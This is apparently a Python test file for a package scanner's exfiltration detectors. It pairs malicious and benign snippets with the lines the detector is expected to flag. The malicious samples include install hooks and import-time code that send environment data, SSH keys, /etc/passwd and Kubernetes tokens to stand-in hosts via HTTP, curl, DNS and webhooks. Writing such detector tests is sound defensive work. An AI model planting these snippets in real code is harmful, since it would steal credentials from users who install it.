"""Exfiltration detectors: exact (indicator, line) pairs on malicious and benign snippets.

Inert snippets: documentation IP ranges, example.com / .invalid names, fake tokens.
"""

from __future__ import annotations

from tests.conftest import pairs, run_engine

DATA = "code_exfiltration_data"
FILE = "code_exfiltration_file"
DNS = "code_exfiltration_dns"
HOOK = "code_exfiltration_webhook"
BAD = "code_exfiltration_to_malicious_domain"
ACCESS = "code_accessing_server_with_suspicious_domain"
FAKE_HOOK = "https://discord.com/api/webhooks/" "123456789012345678/" + "x" * 40


def conf(result, indicator: str) -> dict[int, float]:
    """{start line: confidence} of one indicator's signals."""
    out = {}
    for s in result.signals:
        if s.indicator == indicator:
            path = s.statement_id.rsplit(":", 2)[0]
            out[s.start_line or result.indices[path].get(s.statement_id).start_line] = \
                s.confidence
    return out


def test_host_data_to_interaction_server_at_install():
    src = '''\
        import getpass, os, socket, requests
        from setuptools.command.install import install

        class CustomInstall(install):
            def run(self):
                install.run(self)
                hostname = socket.gethostname()
                username = getpass.getuser()
                ploads = {"hostname": hostname, "cwd": os.getcwd(), "username": username}
                requests.get("https://q1.oastify.com", params=ploads)
        '''
    res = run_engine({"pkg/setup.py": src})
    assert pairs(res, DATA) == {(DATA, 10)}
    assert pairs(res, BAD) == {(BAD, 10)}
    # an interaction (OAST) host is reported as such even when data goes there too
    assert pairs(res, ACCESS) == {(ACCESS, 10)}
    assert conf(res, DATA)[10] >= 0.8


def test_environment_in_url_path_and_aliases():
    src = '''\
        import base64, os
        req = __import__("req" + "uests")
        secret = base64.b64encode(bytes(str(os.environ), "UTF-8"))
        data = "https://abc.m.pipedream.net/" + secret.decode("utf-8")
        req.get(data)
        '''
    res = run_engine({"pkg/__init__.py": src})
    assert pairs(res, BAD) == {(BAD, 5)}
    assert pairs(res, DATA) == {(DATA, 5)}


def test_wrapper_function_marks_call_and_inner_request():
    src = '''\
        import getpass, json, platform, urllib.request as urlrequest

        def request(url, method="GET", data=None, headers=None):
            req = urlrequest.Request(url=url, data=data, headers=headers)
            return urlrequest.urlopen(req, timeout=10).read()

        def detect():
            info = {"title": getpass.getuser(), "body": str(platform.uname())}
            request(
                url="http://collect.example.com/hook.php",
                method="POST",
                data=json.dumps(info).encode(),
            )

        detect()
        '''
    res = run_engine({"pkg/setup.py": src})
    assert pairs(res, DATA) == {(DATA, 4), (DATA, 5), (DATA, 9)}
    assert pairs(res, BAD) == set()


def test_benign_api_token_in_header_and_user_path():
    src = '''\
        import os, requests

        def repos(user):
            headers = {"Authorization": "token " + os.environ["GITHUB_TOKEN"]}
            return requests.get(f"https://api.github.com/users/{user}/repos", headers=headers)
        '''
    res = run_engine({"lib/gh.py": src})
    assert pairs(res, DATA) | pairs(res, BAD) == set()


def test_file_upload_of_ssh_key():
    src = '''\
        import os, requests
        with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as f:
            requests.post("https://transfer.sh/", files={"f": f})
        '''
    res = run_engine({"pkg/__init__.py": src})
    assert pairs(res, FILE) == {(FILE, 2), (FILE, 3)}
    assert conf(res, FILE)[3] >= 0.8


def test_file_upload_user_chosen_is_low():
    src = '''\
        import requests

        def upload(path, url):
            with open(path, "rb") as f:
                return requests.post(url, files={"file": f})
        '''
    res = run_engine({"cli/upload.py": src})
    assert max(conf(res, FILE).values(), default=0.0) < 0.3


def test_dns_exfiltration_of_hex_chunks():
    src = '''\
        import getpass, socket

        def leak():
            data = getpass.getuser().encode().hex()
            socket.gethostbyname(f"{data}.x1.collect.example.com")

        leak()
        '''
    res = run_engine({"pkg/setup.py": src})
    assert pairs(res, DNS) == {(DNS, 5)}


def test_dns_benign_lookup():
    src = '''\
        import socket

        def resolve(host):
            return socket.gethostbyname(host)
        '''
    assert pairs(run_engine({"lib/dns.py": src}), DNS) == set()


def test_webhook_post_and_client_objects():
    src = f'''\
        import requests
        from discord_webhook import DiscordWebhook
        requests.post("{FAKE_HOOK}", json={{"content": "hi"}})
        hook = DiscordWebhook(url="{FAKE_HOOK}", content="x")
        hook.execute()
        '''
    res = run_engine({"pkg/__init__.py": src})
    assert pairs(res, HOOK) == {(HOOK, 3), (HOOK, 4), (HOOK, 5)}
    assert min(conf(res, HOOK).values()) >= 0.7


def test_webhook_template_in_notification_library_is_low():
    src = '''\
        import requests

        def notify(hook_id, token, text):
            url = "https://discord.com/api/webhooks/{}/{}".format(hook_id, token)
            return requests.post(url, json={"content": text})
        '''
    res = run_engine({"notify/discord.py": src})
    assert max(conf(res, HOOK).values(), default=0.0) < 0.3


def test_shell_upload_with_curl():
    src = '''\
        import os
        os.system("curl -F 'file=@/etc/passwd' http://198.51.100.3/u")
        '''
    res = run_engine({"pkg/setup.py": src})
    assert pairs(res, FILE) == {(FILE, 2)}
    assert pairs(res, BAD) == {(BAD, 2)}


def test_service_account_token_sent_with_a_fronted_host_header_at_import():
    # modelled on a dependency-confusion probe: the token goes to a well-known host, but the
    # Host header routes the request elsewhere (domain fronting)
    src = '''\
        from urllib import request
        import base64, json, os

        data = [x for x in open("/var/run/secrets/kubernetes.io/serviceaccount/token", "r")]
        serialised = "".join(data)
        data = {"host": serialised, "d": os.path.expanduser("~")}
        data = json.dumps(data)
        encoded = str(base64.urlsafe_b64encode(data.encode("utf-8")), "utf-8")
        r = request.Request("https://pypi.org/reqs?d=" + encoded,
                            headers={"Host": "relay.example.invalid"})
        k = request.urlopen(r)
        '''
    res = run_engine({"pkg/src/example_package/__init__.py": src})
    assert pairs(res, DATA) == {(DATA, 9), (DATA, 11)}
    assert min(conf(res, DATA).values()) >= 0.8
    assert pairs(res, "code_read_credentials") == {("code_read_credentials", 4)}
    assert conf(res, "code_read_credentials")[4] >= 0.7
    assert pairs(res, ACCESS) == {(ACCESS, 11)}  # the fronted request itself


def test_cloud_sdk_naming_workload_credentials_is_low():
    # workload-identity helpers of cloud SDKs name the token path and metadata endpoints and
    # send the token to their own service when called
    src = '''\
        import requests
        SERVICE_TOKEN_FILENAME = "/var/run/secrets/kubernetes.io/serviceaccount/token"

        def gcp_token(audience):
            url = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/identity"
            return requests.get(url, params={"audience": audience}).text

        def k8s_token(path=SERVICE_TOKEN_FILENAME):
            with open(path) as fh:
                return fh.read()

        def exchange(token):
            return requests.post("https://auth.example.com/token", data={"t": k8s_token()})
        '''
    res = run_engine({"sdk/auth/workload.py": src})
    assert all(c < 0.5 for c in conf(res, "code_read_credentials").values())
    assert all(s.confidence < 0.5 for s in res.signals)
